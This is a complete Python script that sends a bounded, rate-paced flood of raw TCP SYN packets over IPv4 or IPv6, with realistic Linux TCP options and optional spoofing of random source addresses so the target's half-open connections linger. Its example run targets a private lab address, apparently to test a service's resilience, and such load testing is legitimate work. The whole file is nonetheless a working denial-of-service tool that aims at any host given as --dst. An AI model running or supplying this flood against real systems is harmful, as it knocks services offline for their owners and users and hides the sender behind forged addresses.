#!/usr/bin/env python3
"""Send a bounded, paced flood of raw TCP SYNs (no scapy, no hping3).

Each SYN goes to --dst port --port (a list is used in turn) from a random
source port, with the options a Linux client sends (MSS, SACK-permitted,
timestamps, window scale), so the receiver treats it as a real connection
attempt. Sources:
  default        the address this host would use to reach --dst
  --src ADDR     that address
  --spoof NET    random addresses in NET (e.g. 10.99.0.0/24), never the
                 network/broadcast address, --dst, or any --exclude (give
                 the real sender's address there): nobody answers the
                 SYN-ACKs, so half-open state stays until it times out
IPv4 and IPv6 (raw IPPROTO_RAW sockets, header built here; root or
CAP_NET_RAW). Bounded by --count and --timeout; paced to --rate SYNs/s in
10 ms slices.

Prints one line: sent / send errors / time / rate / distinct sources.
Exit 0 when all --count SYNs were sent, 1 otherwise.

Example (from the sender namespace):
  syn_flood.py --dst 10.99.0.1 --port 514 --count 20000 --rate 4000 \\
      --spoof 10.99.0.0/24 --exclude 10.99.0.2
"""
import argparse
import array
import errno
import ipaddress
import random
import socket
import struct
import sys
import time


def csum(data):
    """Internet checksum, in host order words: store it with struct "H"."""
    if len(data) & 1:
        data += b"\0"
    s = sum(array.array("H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def tcp_syn(src, dst, sport, dport, seq, tsval, v6):
    # MSS 1460 | SACK-permitted | timestamps | NOP | window scale 7 (Linux's order)
    opts = struct.pack("!BBH", 2, 4, 1460 if not v6 else 1440) + b"\x04\x02" + \
        struct.pack("!BBII", 8, 10, tsval, 0) + b"\x01" + b"\x03\x03\x07"
    hlen = 20 + len(opts)
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (hlen // 4) << 4, 0x02,
                      64240, 0, 0) + opts
    if v6:
        pseudo = src + dst + struct.pack("!IxxxB", hlen, 6)
    else:
        pseudo = src + dst + struct.pack("!xBH", 6, hlen)
    c = csum(pseudo + hdr)
    return hdr[:16] + struct.pack("H", c) + hdr[18:]


def ip4(src, dst, payload, ident):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, 64, 6, 0,
                    src, dst)
    return h[:10] + struct.pack("H", csum(h)) + h[12:] + payload


def ip6(src, dst, payload):
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), 6, 64, src, dst) + payload


def main():
    ap = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0],
        formatter_class=argparse.RawDescriptionHelpFormatter,
        epilog="\n\n".join(__doc__.split("\n\n")[1:]))
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", default="514", help="port or comma-separated ports")
    ap.add_argument("--count", type=int, required=True, help="SYNs to send (at most 10,000,000)")
    ap.add_argument("--rate", type=float, default=2000, help="SYNs per second (default 2000)")
    ap.add_argument("--timeout", type=float, default=60, help="stop after this long (default 60)")
    ap.add_argument("--src", help="source address (default: the route's)")
    ap.add_argument("--spoof", metavar="NET", help="random source addresses in NET")
    ap.add_argument("--exclude", action="append", default=[],
                    help="never spoof this address (repeatable)")
    ap.add_argument("--seed", type=int, default=None)
    a = ap.parse_args()

    if not 0 < a.count <= 10_000_000 or a.rate <= 0 or a.timeout <= 0:
        ap.error("--count 1..10000000, --rate and --timeout > 0")
    ports = [int(p) for p in a.port.split(",") if p]
    dst = ipaddress.ip_address(a.dst)
    v6 = dst.version == 6
    fam = socket.AF_INET6 if v6 else socket.AF_INET
    rnd = random.Random(a.seed)

    pool = None
    if a.spoof:
        net = ipaddress.ip_network(a.spoof, strict=False)
        if net.version != dst.version:
            ap.error("--spoof %s is not the family of --dst" % net)
        bad = {dst} | {ipaddress.ip_address(x) for x in a.exclude}
        if net.num_addresses <= 65536:
            pool = [h for h in net.hosts() if h not in bad]
            if not pool:
                ap.error("--spoof %s leaves no address" % net)
        else:
            def pick():
                while True:
                    h = net[rnd.randrange(1, net.num_addresses - 1)]
                    if h not in bad:
                        return h
        src_of = (lambda: rnd.choice(pool)) if pool is not None else pick
    else:
        if a.src:
            me = ipaddress.ip_address(a.src)
        else:
            u = socket.socket(fam, socket.SOCK_DGRAM)
            u.connect((a.dst, ports[0]))
            me = ipaddress.ip_address(u.getsockname()[0])
            u.close()
        src_of = lambda: me  # noqa: E731

    try:
        s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except PermissionError:
        print("syn_flood: raw sockets need root (CAP_NET_RAW)", file=sys.stderr)
        return 1
    if not v6:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)

    dpk = dst.packed
    sent = errs = 0
    srcs = set()
    t0 = time.monotonic()
    t_end = t0 + a.timeout
    why = "done"
    while sent < a.count:
        now = time.monotonic()
        if now >= t_end:
            why = "--timeout %.1f s" % a.timeout
            break
        due = min(a.count, int((now - t0) * a.rate) + 1)
        while sent < due:
            src = src_of()
            spk = src.packed
            sport = rnd.randrange(1024, 65536)
            dport = ports[sent % len(ports)]
            seg = tcp_syn(spk, dpk, sport, dport, rnd.getrandbits(32), rnd.getrandbits(32), v6)
            pkt = ip6(spk, dpk, seg) if v6 else ip4(spk, dpk, seg, rnd.getrandbits(16))
            tries = 0
            while True:
                try:
                    s.sendto(pkt, (a.dst, 0))
                    break
                except OSError as e:
                    if e.errno in (errno.ENOBUFS, errno.EAGAIN) and tries < 100:
                        tries += 1
                        time.sleep(0.001)
                        continue
                    errs += 1
                    if errs <= 3:
                        print("syn_flood: sendto: %s" % e, file=sys.stderr)
                    break
            sent += 1
            srcs.add(src)
        time.sleep(0.01)
    dt = time.monotonic() - t0
    print("syn_flood: sent %d SYNs to %s port %s (%d send errors) in %.2f s (%.0f/s), "
          "%d distinct source address(es): %s"
          % (sent - errs, a.dst, a.port, errs, dt, sent / dt if dt > 0 else 0, len(srcs), why),
          file=sys.stderr)
    return 0 if sent == a.count and errs == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
